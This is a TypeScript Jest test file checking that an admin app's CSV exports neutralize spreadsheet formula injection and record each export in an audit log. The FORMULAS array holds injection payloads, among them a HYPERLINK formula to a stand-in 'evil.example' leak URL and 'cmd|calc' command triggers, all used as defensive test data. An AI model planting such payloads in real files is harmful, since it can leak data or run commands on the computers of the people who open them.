import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { REPORT_NAMES } from '@robo/domain';
import type supertest from 'supertest';
import { signInAsAdmin, signInAsStaff } from '../support/admin.js';
import { adminRoutes } from '../support/admin-routes.js';
import { parseCsv } from '../support/csv.js';
import { createProduct } from '../support/factories.js';
import { orderRequest, paidInSandbox } from '../support/store-helpers.js';
import { startTestApp, type TestApp } from '../support/test-app.js';
import { addVenue, registrationBody } from '../workshop-support.js';

/** Text people type that a spreadsheet would run: each formula trigger first, and a line break before one. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?leak","Click")',
  '+SUM(1+1)*cmd|calc',
  '-2+3+cmd|calc',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  'Asha\n=HYPERLINK("http://evil.example")',
];

/** A cell a spreadsheet runs as a formula; a signed number (an amount, +919822012345) is not one. */
const live = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^[+-][\d\s.]+$/.test(cell);

const month = new Intl.DateTimeFormat('en-CA', { timeZone: 'Asia/Kolkata', year: 'numeric', month: '2-digit' }).format(
  new Date(),
);

/** How to call each CSV export; a new export fails the first test until it is added here. */
const REQUESTS: Record<string, string[]> = {
  '/api/admin/registrations/export.csv': ['/api/admin/registrations/export.csv'],
  '/api/admin/orders/export.csv': ['/api/admin/orders/export.csv'],
  '/api/admin/reports/:report/csv': REPORT_NAMES.map((report) => `/api/admin/reports/${report}/csv`),
  '/api/admin/invoices/export': [`/api/admin/invoices/export?month=${month}`],
};

/**
 * Finding: the GSTR-1 export wrote a parent named `=HYPERLINK(...)` as a live formula, and no bulk
 * export was in the audit log. Every CSV goes through the one defusing writer and is audited.
 */
describe('CSV exports', () => {
  let t: TestApp;
  let owner: supertest.Agent;
  const exports = () => adminRoutes(t.app).filter((route) => route.csvExport);

  beforeAll(async () => {
    t = await startTestApp();
    owner = await signInAsAdmin(t);
    for (const formula of FORMULAS) {
      const venue = await addVenue(t, { displayName: formula });
      const booking = await t.http().post('/api/registrations').send(registrationBody(venue.id)).expect(201);
      await t.db.query(
        `UPDATE registrations SET parent_name = $2, child_name = $2, school_name = $2 WHERE booking_id = $1`,
        [booking.body.registration.bookingId, formula],
      );
      await t
        .http()
        .post('/api/verify-payment')
        .send({
          ...(await paidInSandbox(t, booking.body.razorpayOrder.id)),
          booking_id: booking.body.registration.bookingId,
        })
        .expect(200);

      const product = await createProduct(t.db, { name: formula, category: formula });
      const order = await t.http().post('/api/razorpay/create-order').send(orderRequest(product.id)).expect(200);
      await t.db.query(
        `UPDATE orders SET customer_name = $2, shipping_address = jsonb_set(shipping_address, '{city}', to_jsonb($2::text))
         WHERE gateway_order_id = $1`,
        [order.body.order_id, formula],
      );
      await t
        .http()
        .post('/api/store/verify-payment')
        .send(await paidInSandbox(t, order.body.order_id))
        .expect(200);
    }
  }, 120_000);
  afterAll(async () => {
    await t?.close();
  });

  it('knows every CSV export: each is marked and has its calls here', () => {
    const marked = exports().map((route) => route.path);
    expect(marked.sort()).toEqual(Object.keys(REQUESTS).sort());
    const looksLikeExport = adminRoutes(t.app).filter((route) => /export|csv/i.test(route.path));
    expect(looksLikeExport.filter((route) => !route.csvExport)).toEqual([]);
  });

  it.each(Object.entries(REQUESTS))(
    '%s writes no live formula, whatever was typed, and the owner’s export is audited with its row count',
    async (route, urls) => {
      const seen = new Set<string>();
      for (const url of urls) {
        const answer = await owner.get(url).buffer(true).expect(200);
        expect(answer.headers['content-type']).toBe('text/csv; charset=utf-8');
        const [header, ...rows] = parseCsv(answer.text);
        expect(header!.length).toBeGreaterThan(1);
        for (const row of rows) {
          expect(row).toHaveLength(header!.length); // no cell broke into a new row
          for (const cell of row) {
            expect({ url, cell, live: live(cell) }).toEqual({ url, cell, live: false });
            const seeded = FORMULAS.find((formula) => cell === formula || cell === `'${formula}`);
            if (seeded) seen.add(seeded);
          }
        }
        const [audit] = await t.db.query(
          `SELECT action, actor_name AS actor, role, target_type AS "targetType", after FROM audit_events
           WHERE action LIKE 'export.%' ORDER BY id DESC LIMIT 1`,
        );
        expect(audit).toMatchObject({
          action: `export.${exports().find((r) => r.path === route)!.csvExport}`,
          role: 'owner',
          targetType: 'export',
          after: { rows: rows.length },
        });
      }
      // Everything seeded reached the file (defused, or in one quoted cell): the checks were not vacuous.
      expect([...seen].sort()).toEqual([...FORMULAS].sort());
    },
  );

  it('records who exported with which filters', async () => {
    const desk = await signInAsStaff(t, 'desk', 'Export Desk');
    const [{ id: venueId }] = await t.db.query(`SELECT id FROM venues WHERE display_name = $1`, [FORMULAS[0]]);
    const answer = await desk.agent
      .get(`/api/admin/registrations/export.csv?venueId=${venueId}&status=paid`)
      .expect(200);
    expect(parseCsv(answer.text)).toHaveLength(2);
    const [audit] = await t.db.query(
      `SELECT action, staff_id AS "staffId", actor_name AS actor, role, after FROM audit_events ORDER BY id DESC LIMIT 1`,
    );
    expect(audit).toEqual({
      action: 'export.bookings',
      staffId: desk.id,
      actor: 'Export Desk',
      role: 'desk',
      after: { filters: expect.objectContaining({ venueId, status: 'paid' }), rows: 1 },
    });
    const activity = await owner.get('/api/admin/activity').query({ action: 'export' }).expect(200);
    expect(activity.body.total).toBeGreaterThanOrEqual(REPORT_NAMES.length + 4);
  });
});
